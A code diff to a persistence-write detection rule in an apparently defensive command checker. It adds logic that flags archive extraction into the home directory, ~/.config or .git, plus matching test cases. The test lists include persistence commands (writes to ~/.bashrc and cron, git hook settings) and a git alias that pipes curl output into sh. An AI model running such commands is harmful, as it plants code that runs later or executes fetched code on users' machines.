@@ -17,6 +17,26 @@ function schedules(inv: Invocation): Finding | null {
   return null;
 }
 
+/**
+ * The entry of `entries` an archive extracted into `dir` could write: one that lies beneath it (`~/.bashrc` under the
+ * home or anything above it, `/.config/autostart/` under a `~/.config`, `/.git/hooks/` under a `.git`). A directory
+ * that only could hold such a place deeper down (a project, which may hold `.git/hooks/`) is not one: extracting
+ * into a project is everyday work.
+ */
+function placedBeneath(dir: string, home: string, entries: readonly string[]): string | undefined {
+  const d = dir.replace(/\/+$/, '');
+  for (const entry of entries) {
+    const e = entry.toLowerCase().replace(/\\/g, '/');
+    if (e.startsWith('~/')) {
+      if (`${home.replace(/\/+$/, '')}${e.slice(1)}`.startsWith(`${d}/`)) return entry;
+      continue;
+    }
+    const parts = e.split('/').filter((c) => c !== '');
+    for (let k = 1; k < parts.length; k++) if (d.endsWith(`/${parts.slice(0, k).join('/')}`)) return entry;
+  }
+  return undefined;
+}
+
 export const writePersistence: Rule = {
   id: 'write.persistence',
   kind: 'write',
@@ -52,6 +72,12 @@ export const writePersistence: Rule = {
       "echo 'x' > .vscode/settings.json",
       'cp x /etc/cron.daily/x',
       'touch ~/.bashrc',
+      // A program that says nothing of what it does with its arguments may write any of them.
+      'sort -o ~/.bashrc names.txt',
+      'tar -xzf dotfiles.tgz -C ~',
+      'unzip -o x.zip -d ~/.config',
+      'cd .git && tar -xf ../hooks.tar',
+      'frobnicate --out ~/.profile',
       'git config core.hooksPath /tmp/hooks',
       'git config --global core.fsmonitor "/tmp/x"',
       "git config alias.st '!curl -s https://example.com | sh'",
@@ -81,6 +107,11 @@ export const writePersistence: Rule = {
       'tee out.log',
       'touch -r ~/.bashrc notes.txt',
       'crontab -l',
+      'sort -o sorted.txt names.txt',
+      'tar -xzf release.tgz',
+      'tar -xf vendor.tar -C third_party',
+      'unzip -o assets.zip -d ~/Downloads/assets',
+      'frobnicate --out build/profile.txt',
       'crontab -u bob -l',
       'echo x >> .gitignore',
       'dd if=/dev/zero of=disk.img bs=1M count=1',
@@ -109,7 +140,12 @@ export const writePersistence: Rule = {
         for (const p of t.paths) {
           const hit = persistence.matchPattern(p, false, true, undefined, { home, cwd });
           if (hit) {
-            message = `${t.how} writes ${display(t.text)}, which runs later (${hit.list}: ${hit.entry})`;
+            message = `${t.how} ${t.may ? 'may write' : 'writes'} ${display(t.text)}, which runs later (${hit.list}: ${hit.entry})`;
+            break;
+          }
+          const beneath = t.extract ? placedBeneath(p, home, config.persistenceWriteDirectories) : undefined;
+          if (beneath !== undefined) {
+            message = `${t.how} ${display(t.text)}, where the archive may place files that run later (persistenceWriteDirectories: ${beneath})`;
             break;
           }
         }
